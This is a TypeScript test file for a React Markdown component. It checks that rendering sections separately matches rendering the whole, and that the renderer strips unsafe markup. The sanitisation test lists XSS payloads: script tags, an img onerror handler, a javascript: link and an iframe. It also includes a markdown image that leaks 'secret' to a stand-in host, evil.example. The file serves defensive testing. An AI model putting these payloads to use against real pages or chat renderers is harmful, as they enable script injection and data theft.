import fc from 'fast-check';
import { renderToStaticMarkup } from 'react-dom/server';
import { describe, expect, it } from 'vitest';
import { startI18n } from '../../i18n/i18n.ts';
import { Markdown } from './Markdown.tsx';
import { MarkdownBlock } from './MarkdownBlock.tsx';

startI18n('en');
/** The HTML of a text, without the element around it and those around its sections. */
const rendered = (text: string) =>
  renderToStaticMarkup(<Markdown text={text} />)
    .replace(/<\/div>$/, '')
    .split(/<div class="_section_[^"]*">/)
    .slice(1)
    .map((section) => section.replace(/<\/div>$/, ''))
    .join('');
const whole = (text: string) => renderToStaticMarkup(<MarkdownBlock source={text} />);
// Blocks rendered alone have no line feed between them.
// Generated ids count earlier renderings.
const squeezed = (html: string) => html.replace(/>\n+</g, '><').replace(/ id="base-ui-[^"]*"/g, '');

const word = fc.stringMatching(/^[a-z]{1,8}$/);
const blocks = fc.array(
  fc.oneof(
    word,
    word.map((text) => `# ${text}`),
    word.map((text) => `- ${text}\n- **${text}**\n  - nested`),
    word.map((text) => `\`\`\`\n${text}\n\n${text}\n\`\`\``),
    word.map((text) => `> ${text}\nlazy`),
    word.map((text) => `| ${text} | b |\n|---|---|\n| 1 | 2 |`),
    word.map((text) => `[${text}]: https://example.org/${text}`),
    word.map((text) => `[${text}] and <i>${text}</i>`),
    word.map((text) => `$$\n${text}\n\n+ ${text}\n$$`),
    word.map((text) => `${text}:\n\\[\n- ${text}\n\n= \\frac12\n\\]\nmore`),
    word.map((text) => `$${text}^2$ costs $5 and \\(${text}\\)`),
  ),
  { maxLength: 10 },
);

describe('Markdown', () => {
  it('renders blocks as it renders the whole', () => {
    fc.assert(
      fc.property(blocks, (parts) => {
        // Two adjacent lists are one list, so a paragraph separates them.
        const text = parts.join('\n\nbetween\n\n');
        expect(squeezed(rendered(text))).toBe(squeezed(whole(text)));
      }),
    );
  });

  it('renders no element that a text could bring along', () => {
    const hostile = [
      '<script>alert(1)</script>',
      '<img src=x onerror=alert(1)>',
      '[x](javascript:alert(1))',
      '![x](https://evil.example/?d=secret)',
      '<iframe src="https://evil.example"></iframe>',
      '[![x](https://evil.example/i.png)](https://evil.example)',
      '<style>*{display:none}</style>',
    ];
    for (const text of hostile) {
      const html = rendered(text);
      expect(html, text).not.toMatch(/<(script|img|iframe|style|object|embed)\b/i);
      expect(html, text).not.toMatch(/ (src|srcset|style|onerror)="/i);
      expect(html, text).not.toContain('href="javascript');
    }
  });

  it('says where a picture would have come from', () => {
    expect(rendered('![a map](https://maps.example/1.png)')).toContain('maps.example');
  });
});
